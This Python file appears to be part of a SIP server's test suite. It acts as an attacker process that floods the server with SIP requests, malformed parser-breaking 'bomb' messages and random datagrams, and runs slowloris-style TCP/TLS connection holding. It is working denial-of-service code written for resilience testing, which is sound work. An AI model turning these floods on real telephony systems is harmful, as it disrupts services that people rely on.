"""The attacker's machine: `python -m tests.attack.flood KIND …` sends as fast as it is told to.

A process of its own, so that the phones in the test's process keep their time. It prints what
it sent, as JSON.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import random
import secrets
import socket
import ssl
import sys
import time
from collections.abc import Callable, Iterator

Address = tuple[str, int]
SDP = (
    "v=0\r\no=- 1 1 IN IP4 127.0.0.66\r\ns=-\r\nc=IN IP4 127.0.0.66\r\nt=0 0\r\n"
    "m=audio 4000 RTP/AVP 0\r\n"
)


def message(method: str, source: Address, *headers: str, body: str = "") -> bytes:
    """A valid request of an unknown user to an unknown user, never the same twice."""
    user, mark = f"u{random.randrange(10**6)}", secrets.token_hex(8)
    target = f"sip:{user}@encryptotel.local" if method != "REGISTER" else "sip:encryptotel.local"
    lines = [
        f"{method} {target} SIP/2.0",
        f"Via: SIP/2.0/UDP {source[0]}:{source[1]};branch=z9hG4bK{mark};rport",
        f"From: <sip:{user}@encryptotel.local>;tag={mark}",
        f"To: <sip:{user}@encryptotel.local>",
        f"Call-ID: {mark}",
        f"CSeq: 1 {method}",
        "Max-Forwards: 70",
        f"Contact: <sip:{user}@{source[0]}:{source[1]}>",
        *headers,
        f"Content-Length: {len(body)}",
    ]
    return ("\r\n".join(lines) + "\r\n\r\n" + body).encode()


def invite(source: Address) -> bytes:
    return message("INVITE", source, "Content-Type: application/sdp", body=SDP)


def register(source: Address) -> bytes:
    return message("REGISTER", source, "Expires: 3600")


def goodbye(source: Address) -> bytes:
    """Of a call that there is not."""
    return message("BYE", source).replace(b">\r\nCall-ID", b">;tag=x\r\nCall-ID")


def garbage(source: Address) -> bytes:
    return random.randbytes(random.randrange(5, 1200))


def bomb(source: Address) -> bytes:
    """As much as a datagram holds, in the shapes parsers hate."""
    return message(
        random.choice(("INVITE", "REGISTER", "OPTIONS")),
        source,
        *random.choice(
            (
                ["X: y"] * 5000,
                ["Via: " + ",".join(["SIP/2.0/UDP a;branch=z"] * 2000)],
                ["Authorization: Digest " + "a=b," * 10_000],
                ["Subject: " + "\\" * 50_000],
                ["Contact: " + '"<' * 20_000],
                ["Record-Route: " + "<sip:a;lr>," * 4000],
            )
        ),
    )


KINDS: dict[str, Callable[[Address], bytes]] = {
    "invite": invite,
    "register": register,
    "goodbye": goodbye,
    "garbage": garbage,
    "bomb": bomb,
}


def sockets(source: str) -> list[socket.socket]:
    """Where the flood comes from: an address, or "everywhere"."""
    hosts = [source]
    if source == "everywhere":
        hosts = [f"127.9.{n // 200}.{n % 200 + 1}" for n in range(400)]
    opened = []
    for host in hosts:
        one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        one.bind((host, 0))
        opened.append(one)
    return opened


def spray(kind: str, target: Address, source: str, rate: int, count: int) -> int:
    """Send `count` datagrams at `rate` a second, 0 for as fast as possible."""
    wires = [(one, one.getsockname()) for one in sockets(source)]
    # Made beforehand: what is sent must not depend on how fast this process makes it up.
    stock = [(one, KINDS[kind](at)) for one, at in random.choices(wires, k=min(count, 4000))]
    started = time.monotonic()
    for number in range(count):
        one, data = stock[number % len(stock)]
        if number >= len(stock):  # a new call all the same
            mark = b"%x" % number
            data = data.replace(b"branch=z9hG4bK", b"branch=z9hG4bK" + mark, 1)
            data = data.replace(b"Call-ID: ", b"Call-ID: " + mark, 1)
        one.sendto(data, target)
        ahead = number / rate - (time.monotonic() - started) if rate else 0
        if ahead > 0.002:
            time.sleep(ahead)
    return count


async def slow(kind: str, target: Address, source: str, count: int, seconds: float) -> int:
    """Hold `count` connections open and say next to nothing; how many were ever open.

    "tcp": one byte a second of a request. "tls": every other one never begins the handshake,
    the others finish it and then send one byte a second.
    """
    opened = 0
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE

    async def hold(number: int) -> None:
        nonlocal opened
        mute = kind == "tls" and number % 2 == 0
        try:
            _, writer = await asyncio.open_connection(
                *target,
                local_addr=(source, 0),
                ssl=context if kind == "tls" and not mute else None,
                server_hostname="x" if kind == "tls" and not mute else None,
            )
            opened += 1
            for byte in bytes_of(invite((source, 5060))):
                if not mute:
                    writer.write(byte)
                    await writer.drain()
                await asyncio.sleep(1)
        except OSError:
            return  # cut off: the next one comes
        writer.close()

    async def insist(number: int) -> None:
        while True:
            await hold(number)
            await asyncio.sleep(0.2)

    tasks = []
    for number in range(count):
        tasks.append(asyncio.ensure_future(insist(number)))
        if number % 50 == 49:
            await asyncio.sleep(0.01)
    print("open", flush=True)
    await asyncio.sleep(seconds)
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    return opened


def bytes_of(data: bytes) -> Iterator[bytes]:
    return (bytes([byte]) for byte in data)


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("kind", choices=[*KINDS, "tcp", "tls"])
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("--source", default="127.0.0.66")
    parser.add_argument("--rate", type=int, default=0)
    parser.add_argument("--count", type=int, default=20_000)
    parser.add_argument("--seconds", type=float, default=3)
    given = parser.parse_args()
    target = (given.host, given.port)
    if given.kind in KINDS:
        sent = spray(given.kind, target, given.source, given.rate, given.count)
    else:
        sent = asyncio.run(slow(given.kind, target, given.source, given.count, given.seconds))
    json.dump({"sent": sent}, sys.stdout)


if __name__ == "__main__":
    main()
